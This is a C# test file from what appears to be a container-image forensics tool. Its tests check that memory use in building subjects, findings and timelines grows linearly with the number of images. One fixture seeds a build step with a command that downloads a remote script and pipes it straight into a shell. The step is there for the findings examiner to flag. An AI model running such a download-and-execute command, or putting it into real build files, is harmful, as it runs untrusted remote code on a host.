using StoreForensics.Cases;
using StoreForensics.Findings;
using StoreForensics.Findings.Chronology;
using StoreForensics.Model;
using StoreForensics.Primitives;
using StoreForensics.Reports;
using StoreForensics.Reports.Csv;
using StoreForensics.Reports.Jsonl;
using StoreForensics.Reports.L2t;
using StoreForensics.Tests.Reports.Data;
using StoreForensics.Timeline;
using StoreForensics.Timeline.Collectors;
using SampleCases = StoreForensics.Tests.Reports.Data.Samples;

namespace StoreForensics.Tests.Structure;

/// <summary>What is made for twice as many images on one base is twice as much, not four times: memory asked for, which no machine's speed changes.</summary>
public sealed class GrowthTests
{
    private const int Few = 400;
    private const double MostForTwice = 2.5;

    [Test]
    public void Of_subjects() => Grows(images =>
    {
        Inventory inventory = BusyHost.Of(images);
        return () => Subjects(inventory);
    });

    [Test]
    public void Of_findings() => Grows(images =>
    {
        Inventory inventory = BusyHost.Of(images, "/bin/sh -c wget -q -O - http://192.0.2.44/setup.sh | sh");
        return () => ChronologyTeller.Tell(inventory, FindingsExaminer.Find(inventory, null, new ProblemLog()));
    });

    [TestCase(typeof(CsvTimelineWriter))]
    [TestCase(typeof(L2tCsvWriter))]
    [TestCase(typeof(JsonlTimelineWriter))]
    public void Of_timelines(Type writer) => Grows(images =>
    {
        Inventory inventory = BusyHost.Of(images);
        Case subject = SampleCases.Case([.. Subjects(inventory).Select((s, i) =>
            new EventDraft { Time = new Timestamp(i, 0), Type = EventType.BuildStep, Subject = s })], inventory);
        return () => ((IReportWriter)Activator.CreateInstance(writer)!).Write(subject, Stream.Null);
    });

    /// <summary>All owners are listed, in byte order, by every step of the base, and by its layer; in one list.</summary>
    [Test]
    public void Owners_are_listed_once_for_all()
    {
        Inventory inventory = BusyHost.Of(40);
        EventSubject[] ofBase = [.. Subjects(inventory).Where(s => s.Layer == inventory.Layers[0].Id)];

        Assert.That(ofBase, Has.Length.EqualTo(41));
        Assert.That(ofBase[0].Images, Is.EqualTo(Enumerable.Range(0, 40).Select(i => $"team/app-{i:d5}:latest")));
        Assert.That(ofBase[0].ImageIds, Is.EqualTo(inventory.Images.Select(i => i.Id).Order(StringComparer.Ordinal)));
        Assert.That(ofBase.Select(s => s.Images).Distinct(ReferenceEqualityComparer.Instance).Count(), Is.EqualTo(1));
        Assert.That(ofBase.Select(s => (s.Step, s.Command)).Distinct(), Is.EqualTo(new[] { ((int?)1, "/bin/sh -c make # 0") }),
            "step and command are those of the image whose name comes first");
    }

    private static List<EventSubject> Subjects(Inventory inventory)
    {
        var subjects = new SubjectTable();
        var made = new List<EventSubject>();
        foreach ((BuildStep step, List<Image> images) in SharedSteps.Of(inventory.Images))
            made.Add(subjects.Of(step, images));
        made.AddRange(inventory.Layers.Select(subjects.Of));
        made.AddRange(inventory.Containers.Select(subjects.Of));
        return made;
    }

    private static void Grows(Func<int, Action> prepare)
    {
        Measure(prepare(Few));
        long few = Measure(prepare(Few)), many = Measure(prepare(2 * Few));

        Assert.That(many, Is.LessThan(few * MostForTwice));
    }

    private static long Measure(Action act)
    {
        long before = GC.GetAllocatedBytesForCurrentThread();
        act();
        return GC.GetAllocatedBytesForCurrentThread() - before;
    }
}
